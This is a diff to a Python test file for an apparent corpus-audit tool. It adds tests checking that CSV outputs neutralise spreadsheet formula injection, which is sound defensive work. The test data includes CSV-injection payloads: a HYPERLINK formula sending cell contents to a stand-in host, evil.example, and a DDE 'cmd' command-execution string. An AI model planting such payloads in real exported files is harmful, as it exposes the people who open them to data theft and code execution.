@@ -5,7 +5,9 @@ the code before its fix."""
 
 from __future__ import annotations
 
+import csv
 import json
+import re
 import threading
 import tracemalloc
 from pathlib import Path
@@ -22,6 +24,8 @@ from bbsard_audit.audit import crosslingual
 from bbsard_audit.audit.checks.base import Check
 from bbsard_audit.audit.crosslingual import margin_scores
 from bbsard_audit.audit.signals import Batch
+from bbsard_audit.base.contracts.table import Column, TableSpec
+from bbsard_audit.base.io import write_csv
 from bbsard_audit.base.languages import BBSARD
 from bbsard_audit.base.redact import redact, remember_secret, secrets_scope
 
@@ -163,3 +167,43 @@ def test_an_invisible_character_inside_a_real_word_changes_no_check(shared_dir, 
         for text, row in zip(hidden, marked.findings):  # evidence still quotes the text as stored
             for span in (s for f in row for s in f.spans if s.side == "target"):
                 assert text[span.start:span.end] == span.text
+
+
+# ------------------------------------------------------------------ formula cells in every CSV the tool writes
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "-2+3+cmd|' /C calc'!A0", "+1+1", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1", "'=already quoted"]
+
+
+def _live(cell: str) -> bool:
+    """What a spreadsheet would run: a formula start that is not a plain number."""
+    return cell[:1] != "" and cell[:1] in "=+-@\t\r" and not re.fullmatch(r"[-+]?[0-9]+(\.[0-9]*)?([eE][-+]?[0-9]+)?", cell)
+
+
+def test_the_corpus_review_queue_holds_no_live_formula(tmp_path):
+    from test_corpus_engine import beir_side
+
+    docs = [{"_id": f"d{i}", "title": "", "text": f"Article {i}: the tenant pays {i} euros. " * 3} for i in range(60)]
+    bad = [{"_id": f"d{i}", "title": "", "text": FORMULAS[i % len(FORMULAS)]} for i in range(60)]
+    beir_side(tmp_path / "c" / "en", docs)
+    beir_side(tmp_path / "c" / "nl", bad)
+    manifest = tmp_path / "c" / "corpus.yaml"
+    manifest.write_text("name: formulas\nsource: {path: en, lang: en, format: beir}\n"
+                        "target: {path: nl, lang: nl, format: beir}\n")
+    res = invoke("audit", "corpus", "--dataset", manifest, "--out", tmp_path / "out", "--review-budget", 60,
+                 "--control", 0)
+    assert res.exit_code == 0, res.output
+    with open(tmp_path / "out" / "corpus_review_queue.csv", newline="", encoding="utf-8") as f:
+        cells = [c for row in csv.reader(f) for c in row]
+    excerpts = [c for c in cells if any(c.lstrip("'").startswith(x[:4]) for x in FORMULAS)]
+    assert len({c[:3] for c in excerpts}) >= 5 and not [c for c in cells if _live(c)], excerpts
+
+
+def test_write_csv_shields_cells_and_names_and_the_readers_get_the_texts_back(tmp_path):
+    frame = pd.DataFrame({"id": range(len(FORMULAS)), "=name": FORMULAS, "n": [-3, 1.5, 0, 2, 7, -1, 4]})
+    path = write_csv(tmp_path / "t.csv", frame)
+    with open(path, newline="", encoding="utf-8") as f:
+        cells = [c for row in csv.reader(f) for c in row]
+    assert not [c for c in cells if _live(c)] and "-3.0" in cells  # numbers stay numbers
+    back = TableSpec("t.csv", (Column("id", "any"),)).read(path)  # no sidecar: the tool's own file
+    assert list(back.columns) == ["id", "=name", "n"] and list(back["=name"]) == FORMULAS
